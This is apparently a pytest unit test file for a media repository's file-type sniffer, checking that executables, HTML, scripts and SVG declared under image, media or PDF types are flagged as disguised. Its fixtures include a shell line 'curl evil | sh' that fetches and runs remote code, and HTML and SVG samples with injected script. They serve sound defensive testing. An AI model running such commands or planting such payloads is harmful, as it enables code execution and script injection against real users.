"""sniff.detect says when the declared type names a family the content does not belong to."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest

from hearth.media_repo import sniff
from tests.unit.media_repo import fixtures_images as make

ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
PE = b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 64
HTML = b"<!doctype html><script>alert(1)</script>"
SCRIPT = b"#!/bin/bash\ncurl evil | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


@pytest.mark.parametrize(("content", "declared"), [
    (ELF, "image/png"), (PE, "image/png"), (HTML, "image/png"), (SCRIPT, "image/png"),
    (HTML, "image/jpeg"), (SVG, "image/png"), (ELF, "video/mp4"), (PE, "audio/mpeg"),
    (ELF, "text/plain"), (HTML, "application/pdf"), (PDF, "image/gif"),
    (b"plain words", "image/webp"),
])
def test_content_of_another_family_is_disguised(content: bytes, declared: str) -> None:
    """A program, page or script under an image, media, text or PDF type is disguised."""
    detected = sniff.detect(content, declared, len(content))
    assert detected.disguised
    assert detected.declared == declared
    assert detected.mime != declared


def test_random_bytes_declared_as_image_are_disguised() -> None:
    """Bytes that match nothing cannot be the image they claim to be."""
    data = bytes(range(256)) * 4
    assert sniff.detect(data, "image/png", len(data)).disguised


def test_same_family_is_not_disguised_and_content_wins(tmp_path: Path) -> None:
    """A PNG declared image/jpeg is not disguised; its type is image/png."""
    path = tmp_path / "p.png"
    make.picture().save(path, "PNG")
    data = path.read_bytes()
    assert sniff.detect(data, "image/jpeg", len(data)) == sniff.Detected(
        "image/png", "image", "image/jpeg", False)


@pytest.mark.parametrize("declared", [None, "", "application/octet-stream",
                                      "application/x-whatever", "application/zip"])
def test_unspecific_declared_type_is_never_disguised(declared: str | None) -> None:
    """Missing, octet-stream or other non-family declared types promise nothing."""
    assert not sniff.detect(ELF, declared, len(ELF)).disguised


def test_declared_type_is_normalised() -> None:
    """Parameters and case are dropped from the declared type before comparing."""
    detected = sniff.detect(HTML, "Image/PNG; charset=binary", len(HTML))
    assert detected.declared == "image/png"
    assert detected.disguised


def test_svg_declared_as_svg_is_not_disguised() -> None:
    """An SVG may be declared as one (the allow-list decides whether it is accepted)."""
    assert not sniff.detect(SVG, "image/svg+xml", len(SVG)).disguised


@pytest.mark.parametrize("content", [HTML, SCRIPT, SVG, b"just words\n",
                                     "caf\xe9 cr\xe8me\n".encode("latin-1")])
def test_text_declared_as_text_is_not_disguised(content: bytes) -> None:
    """Anything textual (markup, scripts, 8-bit encoded text) may be declared text/*."""
    assert not sniff.detect(content, "text/plain", len(content)).disguised
